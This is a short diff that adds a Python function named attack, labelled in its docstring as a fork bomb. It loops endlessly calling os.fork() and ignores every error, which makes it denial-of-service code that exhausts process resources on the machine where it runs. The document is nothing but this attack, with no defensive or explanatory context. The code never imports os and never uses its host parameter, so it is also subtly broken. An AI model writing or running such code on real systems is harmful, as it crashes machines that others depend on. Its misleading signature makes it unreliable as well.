@@ -1,0 +1,9 @@
+"""A fork bomb."""
+
+
+def attack(host):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
